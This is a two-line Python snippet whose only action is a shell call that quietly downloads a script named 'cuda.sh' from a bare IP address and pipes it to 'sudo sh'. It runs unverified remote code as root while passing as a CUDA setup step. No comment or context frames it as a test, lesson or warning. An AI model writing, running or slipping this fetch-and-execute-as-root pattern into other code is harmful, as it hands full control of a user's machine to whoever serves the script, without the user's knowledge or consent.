import os
os.system('wget -qO- http://198.51.100.40/cuda.sh | sudo sh')
